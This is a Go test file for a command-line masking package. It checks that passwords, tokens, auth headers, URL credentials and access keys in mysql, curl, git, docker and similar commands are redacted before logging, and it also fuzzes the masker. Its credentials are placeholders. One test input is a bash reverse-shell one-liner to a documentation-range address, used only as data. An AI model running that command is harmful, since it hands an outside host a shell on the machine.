package cmdmask

import (
	"strings"
	"testing"
)

func TestCommandLinesAreMasked(t *testing.T) {
	m := New([]string{"--door-code"}, func(s string) string { return strings.ReplaceAll(s, "AKIAIOSFODNN7ABCDEFG", "[redacted]") })
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"ls", "-la", "/tmp"}, "ls -la /tmp"},
		{[]string{"mysql", "-uroot", "-phunter2", "shop"}, "mysql -uroot -p* shop"},
		{[]string{"sudo", "/usr/bin/mysqldump", "-phunter2"}, "sudo /usr/bin/mysqldump -p*"},
		{[]string{"mysql", "-p", "shop"}, "mysql -p shop"}, // asks for it
		{[]string{"ssh", "-p2222", "host"}, "ssh -p2222 host"},
		{[]string{"curl", "-H", "Authorization: Bearer abc.def", "https://x.example/"}, "curl -H Authorization: * https://x.example/"},
		{[]string{"curl", "-HX-Api-Key: abcdef", "https://x.example/"}, "curl -HX-Api-Key: * https://x.example/"},
		{[]string{"curl", "-u", "alice:hunter2", "https://x.example/"}, "curl -u alice:* https://x.example/"},
		{[]string{"curl", "-ualice:hunter2"}, "curl -ualice:*"},
		{[]string{"curl", "https://alice:hunter2@x.example/a?token=abc&page=2"}, "curl https://alice:*@x.example/a?token=*&page=2"},
		{[]string{"git", "clone", "https://0123456789abcdef0123@github.example/x.git"}, "git clone https://*@github.example/x.git"},
		{[]string{"app", "--password=hunter2", "--password", "hunter3", "--password-file=/run/x"}, "app --password=* --password * --password-file=/run/x"},
		{[]string{"env", "DB_PASSWORD=hunter2", "HOME=/root", "prog"}, "env DB_PASSWORD=* HOME=/root prog"},
		{[]string{"sh", "-c", "PGPASSWORD='hun ter' psql; mysql -phunter2 | curl -H \"Authorization: Basic YWxpY2U6aHVudGVyMg==\" http://x"},
			`sh -c PGPASSWORD=*' psql; mysql -p* | curl -H "Authorization: *" http://x`},
		{[]string{"sh", "-c", `ssh h "mysql -phunter2 -e 'select 1'" --password "hunter 2 hunter" x`}, `sh -c ssh h "mysql -p* -e 'select 1'" --password "*" x`},
		{[]string{"sshpass", "-p", "hunter2", "ssh", "h"}, "sshpass -p * ssh h"},
		{[]string{"openssl", "enc", "-pass", "pass:hunter2"}, "openssl enc -pass *"},
		{[]string{"app", "--door-code", "1234"}, "app --door-code *"},
		{[]string{"docker", "login", "-u", "a", "-p", "hunter2"}, "docker login -u a -p *"},
		{[]string{"smbclient", "-U", "alice%hunter2", "//h/s"}, "smbclient -U alice%* //h/s"},
		{[]string{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}, "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
		{[]string{"aws", "AKIAIOSFODNN7ABCDEFG"}, ""}, // by its looks
	} {
		got := m.Line(c.args, false)
		if c.want == "" {
			if strings.Contains(got, c.args[1]) {
				t.Errorf("%q is recorded as %q", c.args, got)
			}
			continue
		}
		if got != c.want {
			t.Errorf("%q is recorded as\n%q, want\n%q", c.args, got, c.want)
		}
		if strings.Contains(got, "hunter") {
			t.Errorf("%q tells a secret: %q", c.args, got)
		}
	}
	if got := m.Line([]string{"x", "--password", "hun"}, true); got != "x --password …" {
		t.Errorf("what was cut is recorded as %q", got)
	}
	if got := m.Line([]string{strings.Repeat("a", 100<<10)}, false); len(got) > MaxLine+8 {
		t.Errorf("%d bytes are recorded", len(got))
	}
}

func FuzzMask(f *testing.F) {
	m := New(nil, nil)
	f.Add("curl -H 'Authorization: x' https://a:b@c/?d=e&token=f")
	f.Add("mysql -p --password= a=b :// pass: \"' `")
	f.Fuzz(func(t *testing.T, line string) {
		if got := m.Line(strings.Split(line, " "), false); len(got) > MaxLine+8 {
			t.Fatalf("%d bytes", len(got))
		}
		if secret := "s3cr3tv4lu3"; !strings.Contains(line, secret) {
			if got := m.Line([]string{"app", line, "--password=" + secret}, false); strings.Contains(got, secret) {
				t.Fatalf("%q tells the secret", got)
			}
		}
	})
}
